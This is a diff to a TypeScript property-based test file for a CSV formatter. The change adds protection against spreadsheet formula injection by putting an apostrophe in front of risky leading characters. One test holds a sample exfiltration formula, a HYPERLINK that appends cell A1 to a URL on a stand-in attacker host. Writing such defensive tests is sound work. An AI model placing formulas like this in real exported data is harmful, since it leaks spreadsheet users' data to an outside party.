@@ -1,5 +1,6 @@
-// Tests for src/formats/csv.ts: any field text survives RFC 4180 quoting, and grids and
-// solutions are spelled so that a cell never needs quotes.
+// Tests for src/formats/csv.ts: any field text survives RFC 4180 quoting (a formula-like one with
+// a leading apostrophe, so a spreadsheet never runs it), and grids and solutions are spelled so
+// that a cell never needs quotes.
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvField, csvGrid, csvSolution } from '../../src/formats/csv.js';
@@ -37,15 +38,29 @@ function readRecord(line: string): string[] {
   }
 }
 
+const FORMULA = /^[=+\-@\t\r]/;
+
 describe('csvField', () => {
-  it('quotes exactly when needed, and every list of fields reads back as it was', () => {
+  it('quotes exactly when needed, and every list of fields reads back as it was, formulas behind an apostrophe', () => {
+    const unit = fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é', '=', '+', '-', '@', '\t', '1');
     fc.assert(
-      fc.property(fc.array(fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é') }), { minLength: 1, maxLength: 6 }), (values) => {
+      fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 6 }), (values) => {
         const line = values.map(csvField).join(',');
-        expect(readRecord(line)).toEqual(values);
-        for (const v of values) expect(csvField(v) === v).toBe(!/[",\r\n]/.test(v));
+        expect(readRecord(line)).toEqual(values.map((v) => (FORMULA.test(v) ? `'${v}` : v)));
+        for (const v of values) expect(csvField(v) === v).toBe(!/[",\r\n]/.test(v) && !FORMULA.test(v));
       }),
     );
+  });
+
+  it('never leaves a cell that a spreadsheet would read as a formula', () => {
+    fc.assert(
+      fc.property(fc.string(), (v) => {
+        const cell = csvField(v);
+        const shown = cell.startsWith('"') ? cell.slice(1) : cell;
+        expect(shown).not.toMatch(FORMULA);
+      }),
+    );
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"singles")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""singles"")"');
   });
 });
 
